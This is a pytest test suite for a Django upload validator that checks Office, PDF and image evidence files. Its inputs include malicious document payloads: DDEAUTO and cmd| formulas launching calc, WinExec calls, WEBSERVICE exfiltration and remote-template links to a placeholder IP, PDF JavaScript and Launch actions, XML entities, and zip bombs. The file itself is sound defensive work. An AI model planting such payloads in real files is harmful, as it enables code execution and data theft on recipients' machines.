"""What an evidence file may hold: real files of every kind, and what hides in them under any name."""

import io
import random
import zipfile

import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook
from openpyxl.workbook.defined_name import DefinedName
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, StreamObject, TextStringObject

from indicators.workflow.evidence_content import TYPES, budget, content_type, open_xml
from tests.files import (
    container,
    directory,
    file_of,
    jpeg,
    old_office,
    pdf,
    picture,
    png,
    relationships,
    word,
    workbook,
    written,
)
from tests.files import (
    open_xml as document,
)

XLSX, DOCX = TYPES[".xlsx"], TYPES[".docx"]


def refusal(name, content):
    """The error for a file, None where it is taken."""
    try:
        content_type(name, content)
    except ValidationError as error:
        return error
    return None


def code(name, content):
    return getattr(refusal(name, content), "code", None)


@pytest.mark.parametrize("suffix", TYPES)
def test_a_file_that_is_what_its_name_says_is_taken(suffix):
    assert content_type(f"báo cáo{suffix}", file_of(suffix)) == TYPES[suffix]


@pytest.mark.parametrize("suffix", TYPES)
@pytest.mark.parametrize(
    "content",
    [b"<html><script>alert(1)</script></html>", b"MZ" + bytes(200), b"#!/bin/sh\n", b"", b"%PDF-1.7\n", b"PK\3\4"],
)
def test_a_file_that_is_something_else_is_refused(suffix, content):
    assert code(f"a{suffix}", content) == "mismatch"


@pytest.mark.parametrize("said", TYPES)
@pytest.mark.parametrize("suffix", TYPES)
def test_content_and_name_must_agree(said, suffix):
    assert (refusal(f"a{said}", file_of(suffix)) is None) is (TYPES[said] == TYPES[suffix])


@pytest.mark.parametrize(
    "name",
    ["a.html", "a.svg", "a.exe", "a.zip", "a.docm", "a.xlsm", "a.pptm", "a.xlsb", "a.pdf.exe", "a.", "a", ".pdf"],
)
def test_other_kinds_are_refused(name):
    assert code(name, pdf()) == "kind"


@pytest.mark.parametrize(("name", "instead"), [("a.doc", ".docx"), ("a.xls", ".xlsx"), ("a.ppt", ".pptx")])
def test_files_of_the_old_office_are_refused_with_what_to_save_them_as(name, instead):
    """Macros of Excel 4.0, links and objects hide in them, and no kept-up library reads all of it."""
    error = refusal(name, old_office("Workbook"))
    assert error.code == "old_office"
    assert f"{instead} hoặc PDF" in error.messages[0]


@pytest.mark.parametrize("suffix", TYPES)
def test_a_damaged_file_is_refused_or_taken_and_never_breaks_anything(suffix):
    chance = random.Random(7)
    for _number in range(150):
        content = bytearray(file_of(suffix))
        for _change in range(chance.randrange(1, 5)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        refusal(f"a{suffix}", bytes(content[: chance.randrange(len(content))] if chance.random() < 0.3 else content))


# --- documents of Office


BIN = [("bin", "application/vnd.ms-office.vbaProject")]


@pytest.mark.parametrize(
    "content",
    [
        document(".docx", "word/vbaProject.bin", defaults=BIN),
        document(".docx", "word/VBAPROJECT.BIN", defaults=BIN),
        document(".docx", "word/picture.bin", defaults=BIN),
        document(".docx", "word/vbaData.xml", overrides=[("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")]),
        document(".docx", main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        document(".docx", main="application/vnd.ms-word.document.MACROenabled.main+xml"),
        document(".docx", more={"word/_rels/document.xml.rels": relationships(("vbaProject", "x.xml"))}),
        document(
            ".docx",
            more={
                "word/_rels/document.xml.rels": relationships(
                    ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "theme.xml")
                )
            },
        ),
        document(
            ".docx", more={"_rels/.rels": relationships(("ui/extensibility", "customUI.xml"), ("customUI", "a.xml"))}
        ),
    ],
)
def test_macros_of_word_are_refused_under_any_name(content):
    assert code("a.docx", content) in ("macros", "part")


def sheet(kind):
    return document(".xlsx", "xl/s.xml", overrides=[("xl/s.xml", kind)])


def defined(**attributes):
    book = Workbook()
    book.defined_names[attributes["name"]] = DefinedName(attr_text="Sheet!$A$1", **attributes)
    return written(book)


@pytest.mark.parametrize(
    "content",
    [
        sheet("application/vnd.ms-excel.macrosheet+xml"),
        sheet("application/vnd.ms-excel.intlmacrosheet+xml"),
        sheet("application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml"),
        document(".xlsx", main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        document(".xlsx", more={"xl/_rels/workbook.xml.rels": relationships(("xlMacrosheet", "worksheets/a.xml"))}),
        defined(name="_xlnm.Auto_Open"),
        defined(name="AUTO_OPEN"),
        defined(name="x", xlm=True),
        defined(name="x", vbProcedure=True),
    ],
)
def test_macros_of_excel_are_refused_those_of_excel_4_too(content):
    assert code("a.xlsx", content) == "macros"


@pytest.mark.parametrize("kind", ["image/png", "application/xml", "application/vnd.ms-excel.person+xml"])
def test_a_macro_that_says_it_is_something_else_is_refused(kind):
    hidden = document(".docx", more={"word/a.png": old_office("VBA")}, overrides=[("word/a.png", kind)])
    assert code("a.docx", hidden) in ("embedded", "mismatch")


PRINTER = TYPES[".xlsx"].removesuffix("sheet") + "printerSettings"


@pytest.mark.parametrize("content", [old_office("VBA"), b"MZ" + bytes(90), workbook(), pdf(), b"{\\rtf1}"])
def test_another_file_is_refused_where_bytes_may_lie(content):
    inside = document(".xlsx", more={"xl/printerSettings/a.bin": content}, defaults=[("bin", PRINTER)])
    assert code("a.xlsx", inside) == "embedded"


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.openxmlformats-officedocument.oleObject",
        "application/vnd.openxmlformats-officedocument.package",
        "application/vnd.ms-office.activeX+xml",
        TYPES[".xlsx"],
        "text/html",
        "",
    ],
)
def test_objects_and_parts_of_unknown_kind_are_refused(kind):
    assert code("a.docx", document(".docx", more={"word/a.dat": "x"}, defaults=[("dat", kind)]))


@pytest.mark.parametrize(
    ("kind", "target", "outside"),
    [
        ("attachedTemplate", "http://198.51.100.1/a.dotm", True),
        ("attachedTemplate", "file:///C:/a.dot", True),
        ("image", "http://198.51.100.1/a.png", True),
        ("image", "\\\\198.51.100.1\\a.png", False),
        ("image", "//198.51.100.1/a.png", False),
        ("image", "http://198.51.100.1/a.png", False),
        ("oleObject", "http://198.51.100.1/a", True),
        ("subDocument", "b.docx", True),
        ("frame", "http://198.51.100.1", True),
        ("externalLinkPath", "b.xlsx", True),
        ("hyperlink", "file://198.51.100.1/a", True),
        ("hyperlink", "javascript:alert(1)", True),
        ("hyperlink", "\\\\198.51.100.1\\a", True),
        ("hyperlink", "ms-word:ofe|u|http://198.51.100.1/a", True),
        ("hyperlink", "setup.exe", True),
        ("http://evil.example/relationships/styles", "styles.xml", False),
    ],
)
def test_nothing_is_fetched_from_outside(kind, target, outside):
    links = relationships((kind, target, outside) if outside else (kind, target))
    assert code("a.docx", document(".docx", more={"word/_rels/document.xml.rels": links})) in (
        "external",
        "embedded",
        "part",
    )


@pytest.mark.parametrize("target", ["https://langson.gov.vn/a?b=1", "HTTP://a.vn", "mailto:a@b.vn", "#Bảng 1"])
def test_links_to_pages_and_people_are_taken(target):
    links = relationships(("hyperlink", target, True))
    assert code("a.docx", document(".docx", more={"word/_rels/document.xml.rels": links})) is None


def test_a_mode_of_target_that_nobody_knows_counts_as_outside():
    links = relationships(("image", "a.png", True)).replace("External", "external ")
    assert code("a.docx", document(".docx", more={"word/_rels/document.xml.rels": links})) == "external"


@pytest.mark.parametrize(
    ("part", "kind"),
    [
        ("xl/externalLinks/externalLink1.xml", "spreadsheetml.externalLink+xml"),
        ("xl/connections.xml", "spreadsheetml.connections+xml"),
        ("xl/queryTables/queryTable1.xml", "spreadsheetml.queryTable+xml"),
    ],
)
def test_links_between_workbooks_and_to_databases_are_refused(part, kind):
    kind = "application/vnd.openxmlformats-officedocument." + kind
    error = refusal("a.xlsx", document(".xlsx", part, overrides=[(part, kind)]))
    assert error.code == "external"
    assert part in error.messages[0]


def field(*instructions):
    """A field of Word whose instruction is spread over several runs; a list among them is a field within it."""
    inner = "".join(
        field(*one) if isinstance(one, list) else f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions
    )
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return mark.format("begin") + inner + mark.format("separate") + "<w:r><w:t>1</w:t></w:r>" + mark.format("end")


@pytest.mark.parametrize(
    "text",
    [
        field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        field("D", "DE", "AU", "TO c:\\\\a.exe"),
        field("dde Excel a.xlsx"),
        field(["QUOTE 68 68 69"], "c:\\\\a.exe"),
        field("IF 1 = 1 ", ["DDE a b"]),
        field('INCLUDEPICTURE "http://198.51.100.1/a.png" \\d'),
        field('INCLUDETEXT "\\\\\\\\198.51.100.1\\\\a.docx"'),
        field("LINK Excel.Sheet.12 a.xlsx"),
        field("EMBED Package"),
        field("MACROBUTTON Run Bấm"),
        field("DATABASE \\d a"),
        field('HYPERLINK "file://198.51.100.1/a"'),
        '<w:fldSimple w:instr="DDEAUTO c:\\\\a.exe"/>',
        "<w:r><w:instrText>DDE a b</w:instrText></w:r>",
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE a</w:instrText></w:r>',
        "<w:r><w:delInstrText>DDE a b</w:delInstrText></w:r>",
    ],
)
def test_fields_that_start_or_fetch_something_are_refused(text):
    assert code("a.docx", word(text)) in ("field", "external")


@pytest.mark.parametrize(
    "text",
    [
        field(" PAGE "),
        field('TOC \\o "1-3" \\h'),
        field("=SUM(ABOVE)"),
        field("HYPERLINK \\l “Bảng”"),
        field('HYPERLINK "https://langson.gov.vn"'),
        field("IF ", ["PAGE"], ' = 1 "a" "b"'),
        '<w:fldSimple w:instr=" NUMPAGES "/>',
        "<w:r><w:t>DDEAUTO, macro và vbaProject là chữ trong báo cáo này.</w:t></w:r>",
    ],
)
def test_fields_that_show_what_the_document_knows_are_taken(text):
    assert code("a.docx", word(text)) is None


def formula(text):
    book = Workbook()
    book.active["A1"] = text
    return written(book)


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|'/C calc'!A0",
        "=MSEXCEL|'\\..\\a'!x",
        '=WEBSERVICE("http://198.51.100.1/"&A2)',
        '=_xlfn.WEBSERVICE("http://198.51.100.1")',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
        '=REGISTER.ID("kernel32","WinExec")',
        '=RTD("a","",1)',
        '=exec ("calc")',
    ],
)
def test_formulas_that_start_or_fetch_something_are_refused(text):
    assert code("a.xlsx", formula(text)) == "field"


@pytest.mark.parametrize("text", ["=SUM(A2:A9)/2", '=IF(A2="a|b",1,2)', "='Bảng|1'!A1", "=A2&CALLED", "CALL(1) là chữ"])
def test_other_formulas_are_taken(text):
    assert code("a.xlsx", formula(text)) is None


@pytest.mark.parametrize(
    ("attribute", "refused_as"),
    [
        ('macro="Sheet1.Run"', "macros"),
        ('macro=""', None),
        ('src="http://198.51.100.1/a.png"', "external"),
        ('src="../media/a.png"', None),
        ('href="file://198.51.100.1/a"', "external"),
        ('action="ppaction://program?name=a"', "macros"),
        ('action="ppaction://macro?name=a"', "macros"),
        ('action="ppaction://hlinksldjump"', None),
        ('ddeService="cmd"', "field"),
    ],
)
def test_what_drawings_and_slides_do_when_clicked(attribute, refused_as):
    assert code("a.pptx", document(".pptx", body=f"<x><sp {attribute}/></x>")) == refused_as


@pytest.mark.parametrize(
    "name",
    [
        "word/Document.xml",
        "word\\a.xml",
        "/word/a.xml",
        "word/../a.xml",
        "word/./a.xml",
        "word//a.xml",
        "C:/a.xml",
        "a%2e.xml",
    ],
)
def test_names_that_programs_read_in_different_ways_are_refused(name):
    assert code("a.docx", document(".docx", name)) == "part"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_a_part_that_is_there_twice_is_refused():
    main = ("word/document.xml", DOCX + ".main+xml")
    twice = [("[Content_Types].xml", directory(main)), ("word/document.xml", "<x/>"), ("word/document.xml", "<y/>")]
    assert code("a.docx", container(twice)) == "part"


def test_a_part_of_two_kinds_is_refused():
    two = document(".docx", overrides=[("WORD/document.xml", "application/vnd.ms-excel.person+xml")])
    assert code("a.docx", two) == "part"


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
        '<!DOCTYPE x SYSTEM "http://198.51.100.1/a.dtd"><x/>',
        "<x><y></x>",
        "",
        "MZ",
    ],
)
def test_xml_with_entities_or_faults_is_refused(text):
    assert code("a.docx", document(".docx", body=text)) == "mismatch"


def test_a_container_that_unpacks_to_a_flood_is_refused():
    bomb = document(".docx", more={"word/a.xml": f"<x>{'0' * 30_000_000}</x>"})
    assert len(bomb) < 2**16
    assert code("a.docx", bomb) == "bomb"


def test_a_container_of_countless_parts_is_refused(monkeypatch):
    monkeypatch.setattr(open_xml, "MOST_PARTS", 20)
    assert code("a.xlsx", document(".xlsx", *(f"part{number}.xml" for number in range(20)))) == "bomb"


def test_parts_that_share_their_bytes_are_refused():
    content = {f"a{number}.xml": "<x>0123456789</x>" * 10 for number in range(3)}
    shared = bytearray(container(content, zipfile.ZIP_STORED))
    start = shared.index(b"PK\x01\x02")
    for _number in range(1, 3):
        entry = shared.index(b"PK\x01\x02", start + 1)
        shared[entry + 42 : entry + 46] = bytes(4)
        start = entry
    with zipfile.ZipFile(io.BytesIO(shared)) as archive:
        assert len({part.header_offset for part in archive.infolist()}) == 1
    assert code("a.docx", bytes(shared)) is not None


@pytest.mark.parametrize("suffix", [".docx", ".pdf", ".png"])
def test_a_file_that_takes_too_long_is_refused(monkeypatch, suffix):
    monkeypatch.setattr(budget, "SECONDS", -1)
    assert code(f"a{suffix}", file_of(suffix)) == "budget"


@pytest.mark.parametrize("cut", [4, 40, -30, -4])
def test_a_damaged_container_is_refused(cut):
    assert code("a.docx", document(".docx")[:cut]) == "mismatch"


def test_a_plain_zip_is_no_document():
    assert code("a.docx", container({"word/document.xml": "<x/>"})) == "mismatch"


def test_an_encrypted_document_is_refused():
    """A password turns it into a file of the old kind."""
    assert code("a.docx", old_office("EncryptedPackage")) == "mismatch"


# --- PDF


def named(**entries):
    """A dictionary of PDF; text becomes a name where it begins with a slash."""
    found = DictionaryObject()
    for key, value in entries.items():
        is_text = isinstance(value, str)
        made = (NameObject(value) if value.startswith("/") else TextStringObject(value)) if is_text else value
        found[NameObject(f"/{key}")] = made
    return found


def with_root(**entries):
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.root_object.update(named(**entries))
    return written(writer)


def with_page(**entries):
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200).update(named(**entries))
    return written(writer)


SCRIPT = named(S="/JavaScript", JS="app.alert(1)")


def attached():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("a.exe", b"MZ")
    return written(writer)


@pytest.mark.parametrize(
    "content",
    [
        with_root(OpenAction=SCRIPT),
        with_root(OpenAction=named(S="/Launch", F="cmd.exe")),
        with_root(OpenAction=named(S="/URI", URI="https://a.vn")),
        with_root(OpenAction=named(S="/Named", N="/Print")),
        with_root(AA=named(WC=named(S="/GoTo"))),
        with_root(Names=named(JavaScript=named())),
        with_root(AcroForm=named(XFA="x")),
        with_root(AF=ArrayObject([named(Type="/Filespec", EF=named())])),
        with_page(AA=named(O=SCRIPT)),
        with_page(Annots=ArrayObject([named(Subtype="/RichMedia")])),
        with_page(Annots=ArrayObject([named(Subtype="/Link", A=named(S="/Launch"))])),
        with_page(Annots=ArrayObject([named(Subtype="/Link", A=named(S="/GoToR"))])),
        with_page(Annots=ArrayObject([named(Subtype="/FileAttachment")])),
        with_page(Annots=ArrayObject([named(A=named(S="/URI", URI="file://198.51.100.1/a"))])),
        with_page(Annots=ArrayObject([named(A=named(S="/URI", URI="javascript:alert(1)"))])),
        attached(),
    ],
)
def test_a_pdf_that_does_more_than_show_pages_is_refused(content):
    assert code("a.pdf", content) == "active"


@pytest.mark.parametrize("spelled", [b"/J#61vaScript", b"/#4aavaScript", b"/JavaScrip#74"])
def test_names_of_a_pdf_are_read_however_they_are_spelled(spelled):
    content = with_root(OpenAction=SCRIPT)
    assert code("a.pdf", content.replace(b"/JavaScript", spelled).replace(b"/JS", b"/J#53")) == "active"


def test_the_message_says_what_was_found_and_what_to_do():
    (message,) = refusal("Báo cáo.pdf", with_root(OpenAction=SCRIPT)).messages
    assert "Báo cáo.pdf" in message
    assert "/J" in message
    assert "in thành tệp PDF mới" in message


def packed(inner, **entries):
    """A PDF in which one object is packed into a stream of objects."""
    stream = StreamObject()
    stream.set_data(b"90 0 " + inner)
    stream.update(named(Type="/ObjStm", N=NumberObject(1), First=NumberObject(5), **entries))
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._add_object(stream.flate_encode())
    return written(writer)


def test_packed_objects_of_a_pdf_are_read():
    assert code("a.pdf", packed(b"<</S/JavaScript/JS(app.alert\\(1\\))>>")) == "active"
    assert code("a.pdf", packed(b"<</S/GoTo>>")) is None


def test_objects_that_no_table_names_are_read():
    """A reader that mends a broken table comes upon them."""
    for hidden in (b"77 0 obj<</S/Launch>>endobj\n", b"77 %c\n0 %c\n obj <</S/Launch>>\nendobj\n"):
        assert code("a.pdf", pdf().replace(b"startxref", hidden + b"startxref")) == "active"


def test_an_earlier_state_of_a_pdf_is_read_too():
    writer = PdfWriter(io.BytesIO(with_root(OpenAction=SCRIPT)), incremental=True)
    del writer.root_object["/OpenAction"]
    mended = written(writer)
    assert "/OpenAction" not in PdfReader(io.BytesIO(mended)).root_object
    assert code("a.pdf", mended) == "active"


def test_an_encrypted_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("", "owner", algorithm="RC4-128")
    assert code("a.pdf", written(writer)) == "locked"


@pytest.mark.parametrize(
    "content",
    [
        with_root(OpenAction=ArrayObject([NumberObject(0), NameObject("/Fit")])),
        with_root(OpenAction=named(S="/GoTo")),
        with_root(
            AcroForm=named(SigFlags=NumberObject(3), Fields=ArrayObject([named(FT="/Sig", V=named(Type="/Sig"))]))
        ),
        with_page(Annots=ArrayObject([named(A=named(S="/URI", URI="https://langson.gov.vn"))])),
        with_page(Annots=ArrayObject([named(A=named(S="/URI", URI="www.langson.gov.vn"))])),
        with_root(Title="/JavaScript là chữ".removeprefix("/")),
    ],
)
def test_signatures_links_and_places_of_a_pdf_are_taken(content):
    assert code("a.pdf", content) is None


@pytest.mark.parametrize(
    "content", [b"%PDF-1.7\n" + b"[" * 200_000, b"%PDF-1.7\n1 0 obj" + b"<</A" * 90_000 + b"\n%%EOF"]
)
def test_a_pdf_that_is_nested_without_end_is_refused(content):
    assert code("a.pdf", content) == "mismatch"


# --- pictures


@pytest.mark.parametrize(("name", "content"), [("a.png", png()), ("a.jpg", picture("JPEG", (400, 300)))])
def test_half_a_picture_is_refused(name, content):
    assert code(name, content) is None
    assert code(name, content[: len(content) // 2]) == "image"


def test_a_picture_of_another_format_under_the_signature_is_refused():
    assert code("a.jpg", b"\xff\xd8\xff" + png()) == "image"
    assert code("a.png", png()[:8] + jpeg()) == "image"


def test_a_picture_of_too_many_pixels_is_refused_unopened(monkeypatch):
    huge = bytearray(png())
    huge[16:24] = (60_000).to_bytes(4, "big") * 2
    assert code("a.png", bytes(huge)) in ("pixels", "image")
    monkeypatch.setattr("indicators.workflow.evidence_content.images.MOST_PIXELS", 63)
    assert code("a.png", png()) == "pixels"
